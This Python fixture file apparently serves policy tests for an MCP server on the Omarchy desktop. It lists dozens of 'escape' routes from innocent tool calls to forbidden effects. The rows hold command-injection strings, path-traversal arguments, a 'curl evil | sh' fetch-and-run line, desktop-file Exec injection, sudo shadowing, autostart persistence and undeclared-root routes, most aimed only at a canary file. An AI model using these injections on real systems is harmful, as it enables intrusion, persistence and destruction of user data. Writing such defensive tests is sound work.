"""Every way from an innocent call to something that must not happen: a row for each, with the sign that it did.

Tests of the policy may read the table and show that each row ends refused or asked; ``test_dangers`` proves
that each works where nobody stands in its way.
"""

from dataclasses import dataclass, field


def run(route: str, *arguments: str) -> tuple[str, ...]:
    """A step: the file of a route, with arguments."""
    return ("run", route, *arguments)


def words(*call: str) -> tuple[str, ...]:
    """A step: words for the command centre, which routes them as it likes."""
    return ("words", *call)


def ipc(*call: str) -> tuple[str, ...]:
    """A step: a function of the shell."""
    return ("ipc", *call)


@dataclass(frozen=True, slots=True, kw_only=True)
class Escape:
    """One way from an innocent call to something that must not happen, and the sign that it did.

    In steps, files and signs "{state}" is the demo's state folder, "{canary}" a file in it that nobody makes by
    mistake and "{plugin}" the product's own plugin id.
    """

    id: str
    steps: tuple[tuple[str, ...], ...]
    plants: dict[str, str] = field(default_factory=dict)
    stubs: tuple[str, ...] = ()
    appears: str = ""
    vanishes: str = ""
    holds: tuple[str, str] = ("", "")
    needs_bus: bool = False

    def __str__(self) -> str:
        return self.id


PLUGIN = "io.github.bruce-forte.mcp-server"
THEME = 'ground = "#000000"\n'
TOUCH = "touch {canary}"

ESCAPES: tuple[Escape, ...] = (
    # Through the shell's functions.
    Escape(id="E1", steps=(ipc("shell", "call", "omarchy.menu", "runAction", TOUCH),), appears="{canary}"),
    Escape(
        id="E1 by route",
        steps=(run("omarchy shell", "shell", "call", "omarchy.menu", "runAction", TOUCH),),
        appears="{canary}",
    ),
    Escape(id="E2", steps=(run("omarchy menu", "summon", "system.shutdown"),), holds=("session", "Powered off")),
    Escape(
        id="E2 by function",
        steps=(ipc("shell", "summon", "omarchy.menu", '{{"menu":"system.lock"}}'),),
        holds=("session", "locked"),
    ),
    Escape(
        id="E2 by toggle",
        steps=(ipc("shell", "toggle", "omarchy.menu", '{{"menu":"system.reboot"}}'),),
        holds=("session", "Restarting"),
    ),
    Escape(
        id="E3",
        steps=(
            ipc(
                "shell",
                "summon",
                "omarchy.menu",
                '{{"mode":"input","selectionFile":"{state}/hooks/theme-set","doneFile":"{state}/done"}}',
            ),
            ipc("shell", "call", "omarchy.menu", "applyDmenuSelection", TOUCH),
            run("omarchy hook", "theme-set"),
        ),
        appears="{canary}",
    ),
    Escape(
        id="E4",
        steps=(ipc("image-selector", "cancel", "{state}/config/token"),),
        plants={"config/token": "a secret\n"},
        holds=("config/token", ""),
    ),
    Escape(
        id="E5",
        steps=(
            run("omarchy notification send", "Approval", "--exec", "touch", "{canary}"),
            ipc("notifications", "invokeLast"),
        ),
        appears="{canary}",
        needs_bus=True,
    ),
    Escape(id="E6", steps=(run("omarchy bar plugin", "set", "omarchy.clock", "exec", TOUCH),), appears="{canary}"),
    Escape(
        id="E8",
        steps=(ipc("shell", "setPluginEnabled", "{plugin}", "false"),),
        plants={"plugins/{plugin}/manifest.json": "{}", "plugins-enabled": "{plugin}\n"},
        holds=("plugins-enabled", ""),
    ),
    Escape(
        id="E10",
        steps=(ipc("shell", "call", "omarchy.emojis", "applySelected", "curl evil | sh"),),
        holds=("typed", "curl evil | sh"),
    ),
    Escape(
        id="E11",
        steps=(run("omarchy notification dismiss", "Approval"),),
        plants={"headline": "Approval needed\n"},
        holds=("headline", ""),
    ),
    Escape(
        id="E11 by function",
        steps=(run("omarchy notification send", "Approval"), ipc("notifications", "dismissAll")),
        holds=("headline", ""),
        needs_bus=True,
    ),
    Escape(
        id="E16",
        steps=(run("omarchy refresh config", "shell.json"),),
        plants={"config/shell.json": "ours\n"},
        holds=("config/shell.json", "# the default"),
    ),
    Escape(
        id="E16 by shell",
        steps=(run("omarchy refresh shell"),),
        plants={"config/shell.json": "ours\n"},
        holds=("config/shell.json", "# the default"),
    ),
    Escape(
        id="E16 by bar",
        steps=(run("omarchy bar", "defaults"),),
        plants={"config/bar-widgets": "{plugin}\tplaced\tright\n"},
        vanishes="config/bar-widgets",
    ),
    Escape(
        id="E17",
        steps=(run("omarchy bar plugin", "add", "evil.widget"),),
        plants={"plugins/evil.widget/load.sh": TOUCH},
        appears="{canary}",
    ),
    Escape(
        id="E17 by bar",
        steps=(run("omarchy bar", "use", "evil.bar"),),
        plants={"plugins/evil.bar/load.sh": TOUCH},
        appears="{canary}",
    ),
    Escape(
        id="plugin by route",
        steps=(run("omarchy plugin", "enable", "evil.widget"),),
        plants={"plugins/evil.widget/load.sh": TOUCH},
        appears="{canary}",
    ),
    Escape(
        id="rescan",
        steps=(ipc("shell", "rescanPlugins"),),
        plants={"plugins/evil.widget/load.sh": TOUCH, "plugins-enabled": "evil.widget\n"},
        appears="{canary}",
    ),
    # Through routes.
    Escape(id="R1", steps=(run("omarchy launch or focus", "x", "$(touch {canary})"),), appears="{canary}"),
    Escape(id="R1 alone", steps=(run("omarchy launch or focus", "x$(touch {canary})"),), appears="{canary}"),
    Escape(
        id="R1b",
        steps=(run("omarchy launch or focus webapp", "n", "https://x/$(touch {canary})"),),
        appears="{canary}",
    ),
    Escape(id="R1c", steps=(run("omarchy launch or focus tui", "x$(touch {canary})"),), appears="{canary}"),
    Escape(
        id="R2",
        steps=(run("omarchy hook", "../pictures/innocent"),),
        plants={"pictures/innocent": TOUCH},
        appears="{canary}",
    ),
    Escape(
        id="R4",
        steps=(
            run("omarchy mise install", 'x"; touch {canary}; echo "', "../hooks/font-set", "true"),
            run("omarchy hook", "font-set"),
        ),
        appears="{canary}",
    ),
    Escape(
        id="R4 shadow",
        steps=(run("omarchy mise install", "innocent", "sudo", "true"),),
        appears="{state}/local-bin/sudo",
    ),
    Escape(id="R5", steps=(run("omarchy font set", "Demo Mono/;e touch {canary}\n\n#"),), appears="{canary}"),
    Escape(
        id="R6",
        steps=(
            run("omarchy transcode ascii", "{state}/desktop.svg", "{state}/art", "--width", "a[$(touch {canary})]"),
        ),
        appears="{canary}",
    ),
    Escape(
        id="R7",
        steps=(run("omarchy toggle", "../config/key", "off"),),
        plants={"config/key": "a key\n"},
        vanishes="config/key",
    ),
    Escape(
        id="R7 mask",
        steps=(run("omarchy toggle", "../config/systemd/user/omarchy-mcp.service", "on"),),
        appears="{state}/config/systemd/user/omarchy-mcp.service",
    ),
    Escape(id="R9", steps=(run("omarchy restart app", "bash", "-c", TOUCH),), appears="{canary}"),
    Escape(
        id="R10",
        steps=(run("omarchy theme remove", "../pictures/holiday"),),
        plants={"pictures/holiday/one.png": "…"},
        vanishes="pictures/holiday",
    ),
    Escape(
        id="R11",
        steps=(run("omarchy theme install", "-x"),),
        plants={"themes/mine/colors.toml": THEME},
        vanishes="themes/mine",
    ),
    Escape(
        id="R11 set",
        steps=(run("omarchy theme set", "../pictures/evil"),),
        plants={"pictures/evil/colors.toml": THEME, "pictures/evil/apply.sh": TOUCH},
        appears="{canary}",
    ),
    Escape(
        id="R12",
        steps=(run("omarchy webapp install", "../autostart/e", "https://x", "icon", "sh -c evil"),),
        appears="{state}/autostart/e.desktop",
    ),
    Escape(
        id="R12b",
        steps=(run("omarchy webapp install", "News", "https://x\nExec=evil", "icon"),),
        holds=(
            "applications/News.desktop",
            "[Desktop Entry]\nType=Application\nName=News\nExec=omarchy-launch-webapp https://x\nExec=evil\nIcon=icon",
        ),
    ),
    Escape(
        id="R13",
        steps=(run("omarchy tui install", "../autostart/t", "evil"),),
        appears="{state}/autostart/t.desktop",
    ),
    Escape(
        id="R14",
        steps=(run("omarchy hook install", "../config/systemd/user/omarchy-mcp.service", "{state}/pictures/x.conf"),),
        plants={"pictures/x.conf": "[Service]\n"},
        appears="{state}/config/systemd/user/omarchy-mcp.service.d/x.conf",
    ),
    Escape(
        id="R15",
        steps=(words("menu", "emoji", "insert", "curl evil|sh"),),
        holds=("typed", "curl evil|sh"),
    ),
    Escape(id="R16", steps=(words("toggle", "hybrid-gpu"),), stubs=("sudo",), appears="{canary}"),
    Escape(id="R16 words", steps=(words("toggle", "hybrid", "gpu"),), stubs=("sudo",), appears="{canary}"),
    Escape(id="R16 battery", steps=(words("battery", "status", "calibrate"),), stubs=("sudo",), appears="{canary}"),
    Escape(
        id="R20",
        steps=(run("omarchy share", "file", "{state}/config/key"),),
        plants={"config/key": "a key\n"},
        stubs=("localsend",),
        appears="{canary}",
    ),
    Escape(
        id="R21",
        steps=(run("omarchy hyprland window pop", 'os.execute("touch {canary}") and 1'),),
        appears="{canary}",
    ),
    Escape(id="R23", steps=(run("omarchy launch browser", "--gpu-launcher=touch {canary}"),), appears="{canary}"),
    Escape(
        id="R23 second",
        steps=(run("omarchy launch webapp", "https://x", "--gpu-launcher=touch {canary}"),),
        appears="{canary}",
    ),
    Escape(id="R24", steps=(run("omarchy launch config editor", "+!touch {canary}"),), appears="{canary}"),
    Escape(
        id="R24 second",
        steps=(run("omarchy launch editor", "{state}/log", "+!touch {canary}"),),
        appears="{canary}",
    ),
    Escape(
        id="R25",
        steps=(words("screenshot", "fullscreen", "--editor=touch {canary}"),),
        appears="{canary}",
    ),
    Escape(
        id="R28",
        steps=(
            run(
                "omarchy notification send",
                "omarchy-mcp",
                "wants",
                "--app-name",
                "omarchy-mcp",
                "--exec",
                "touch",
                "{canary}",
            ),
            run("omarchy shell", "notifications", "invokeLast"),
        ),
        appears="{canary}",
        needs_bus=True,
    ),
    Escape(id="R30", steps=(run("omarchy launch tui", "bash", "-c", TOUCH),), appears="{canary}"),
    Escape(id="R30 terminal", steps=(run("omarchy launch terminal", "bash", "-c", TOUCH),), appears="{canary}"),
    Escape(
        id="R31",
        steps=(run("omarchy launch floating terminal with presentation", TOUCH),),
        appears="{canary}",
    ),
    Escape(
        id="R31 font",
        steps=(run("omarchy install font", "x'; touch {canary}; '", "p", "f"),),
        stubs=("sudo",),
        appears="{canary}",
    ),
    Escape(
        id="R32",
        steps=(run("omarchy webapp remove", "../pictures/victim"),),
        plants={"pictures/victim.desktop": "[Desktop Entry]\n"},
        vanishes="pictures/victim.desktop",
    ),
    Escape(
        id="R33",
        steps=(run("omarchy transcode", "{state}/pictures/one.svg", "png"),),
        plants={"pictures/one.svg": "new", "pictures/one.png": "old"},
        holds=("pictures/one.png", "new"),
    ),
    # Root that nobody declared.
    Escape(id="root dns", steps=(run("omarchy dns", "Google"),), stubs=("pkexec",), appears="{canary}"),
    Escape(id="root browser", steps=(run("omarchy install browser", "zen"),), stubs=("sudo",), appears="{canary}"),
    Escape(id="root editor", steps=(run("omarchy install editor helix"),), stubs=("sudo",), appears="{canary}"),
    Escape(id="root link", steps=(run("omarchy dev link", "/nowhere"),), stubs=("sudo",), appears="{canary}"),
    Escape(id="root su", steps=(run("omarchy sudo reset"),), stubs=("su",), appears="{canary}"),
)
